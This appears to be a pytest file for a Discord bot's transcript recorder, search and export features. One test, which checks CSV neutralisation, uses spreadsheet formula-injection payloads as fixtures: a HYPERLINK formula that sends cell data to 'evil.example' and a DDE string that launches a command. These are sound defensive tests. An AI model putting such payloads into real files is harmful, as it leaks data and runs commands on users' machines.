"""Exporters, search and ``herbot transcript export`` on a real database (no bot)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from dataclasses import replace

import pytest

from bot.cli import main as cli_main
from cogs.threads import records
from cogs.threads.recording import store
from cogs.threads.recording.recorder import Recorder
from cogs.threads.transcripts.exporters import FORMATS, NotRecorded, export_transcript
from cogs.threads.transcripts.search import search
from tests.threads.conftest import CHANNEL, T0, msg, start, write


async def test_search_is_safe_and_scoped(db):
    await start(db)
    await start(db, channel=501)
    recorder = Recorder(db)
    recorder.add_message(msg(1, "Theodore's letters are beautiful"))
    recorder.add_message(msg(2, 'AND OR NOT "*" -- letters', author=2))
    await recorder.flush()
    assert await search(db, 9, '"') is None
    hits = await search(db, 9, 'letters" OR -x')
    assert {h.author_id for h in hits} == {1, 2}
    assert (
        await search(db, 9, "letters", author_id=2)
        and len(await search(db, 9, "letters", author_id=2)) == 1
    )
    assert await search(db, 8, "letters") == []
    assert await search(db, 9, "letters", channel_id=501) == []


@pytest.mark.parametrize("fmt", FORMATS)
async def test_each_format_streams_splits_and_parses(db, settings, tmp_path, fmt):
    await start(db)
    recorder = Recorder(db)
    for i in range(300):
        recorder.add_message(msg(i, f"line {i} " + "x" * 200))
    await recorder.flush()
    paths = export_transcript(settings.database, CHANNEL, fmt, tmp_path, max_bytes=20_000)
    assert len(paths) > 2 and all(p.stat().st_size <= 20_000 for p in paths)
    found = []
    for p in paths:
        text = p.read_text(encoding="utf-8")
        if fmt == "json":
            found += [
                i["content"].split()[1] for i in json.loads(text)["items"] if i["type"] == "message"
            ]
        elif fmt == "csv":
            found += [
                r["content"].split()[1]
                for r in csv.DictReader(io.StringIO(text))
                if r["kind"] == "message"
            ]
        else:
            assert text.count("line ") >= 1
            found += [w.split()[1] for w in text.split("line ")[1:] if w]
            found = [f"{n}" for n in found]
    if fmt in ("json", "csv"):
        assert found == [str(i) for i in range(300)]


async def test_export_of_an_unrecorded_thread_says_so(db, settings, tmp_path):
    with pytest.raises(NotRecorded):
        export_transcript(settings.database, 42, "md", tmp_path)


async def test_cli_exports_a_transcript(db, settings, tmp_path, capsys):
    await start(db)
    recorder = Recorder(db)
    recorder.add_message(msg(1, "from the command line"))
    await recorder.flush()
    out = tmp_path / "out" / "t.json"
    code = await asyncio.to_thread(
        cli_main,
        [
            "--db",
            str(settings.database),
            "transcript",
            "export",
            str(CHANNEL),
            "--format",
            "json",
            "-o",
            str(out),
        ],
    )
    assert code == 0
    doc = json.loads(out.read_text())
    assert doc["items"][-1]["content"] == "from the command line"
    missing = ["--db", str(settings.database), "transcript", "export", "42"]
    assert await asyncio.to_thread(cli_main, missing) == 1
    assert "never recorded" in capsys.readouterr().err


async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
    db, settings, tmp_path
):
    await start(db)
    recorder = Recorder(db)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    recorder.add_message(
        replace(
            msg(1, formula, author=3),
            author_name="+cmd|' /C calc'!A0",
            attachments=(records.Attachment("@SUM(1+1).png", 10, None),),
            embed_titles=("-2+3",),
        )
    )
    recorder.add_message(msg(2, "a plain sentence"))
    await recorder.flush()
    (path,) = export_transcript(settings.database, CHANNEL, "csv", tmp_path)
    rows = [r for r in csv.DictReader(io.StringIO(path.read_text())) if r["kind"] == "message"]
    risky = rows[0]
    for column in ("content", "author_name", "attachments", "embeds"):
        assert risky[column][0] not in "=+-@\t\r", column
    assert risky["content"] == "'" + formula  # the text is kept, only defused
    assert rows[1]["content"] == "a plain sentence"


async def test_search_scopes_before_ranking_so_other_guilds_cannot_crowd_out_results(db):
    await start(db)
    await start(db, 700, guild_id=8, name="another server", now=T0)
    recorder = Recorder(db)
    for i in range(600):  # short, so they rank above ours
        recorder.add_message(replace(msg(i, "letters letters"), channel_id=700, guild_id=8))
    recorder.add_message(msg(900, "Theodore writes letters for other people, for a living"))
    await recorder.flush()
    hits = await search(db, 9, "letters")
    assert [h.channel_id for h in hits] == [CHANNEL]
    assert len(await search(db, 9, "letters", channel_id=CHANNEL, author_id=1)) == 1


@pytest.mark.parametrize("fmt", FORMATS)
async def test_exports_do_not_name_a_member_who_opted_out(db, settings, tmp_path, fmt):
    await start(db)
    recorder = Recorder(db)
    recorder.add_message(replace(msg(1, "mine, later redacted", author=777001), author_name="Zoe"))
    recorder.add_message(msg(2, "someone else"))
    await recorder.flush()
    await write(db, store.redact_author, 777001)
    (path,) = export_transcript(settings.database, CHANNEL, fmt, tmp_path)
    text = path.read_text()
    assert "777001" not in text and "Zoe" not in text and "later redacted" not in text
    assert "someone else" in text


async def test_cli_export_without_output_says_where_it_wrote(
    db, settings, tmp_path, capsys, monkeypatch
):
    await start(db)
    recorder = Recorder(db)
    recorder.add_message(msg(1, "written here"))
    await recorder.flush()
    here = tmp_path / "here"
    here.mkdir()
    argv = ["--db", str(settings.database), "transcript", "export", str(CHANNEL)]
    monkeypatch.chdir(here)
    assert await asyncio.to_thread(cli_main, argv) == 0
    written = here / f"transcript-{CHANNEL}.md"
    assert "written here" in written.read_text()
    assert capsys.readouterr().out == (
        f"wrote {written} (the current directory: -o PATH writes elsewhere)\n"
    )
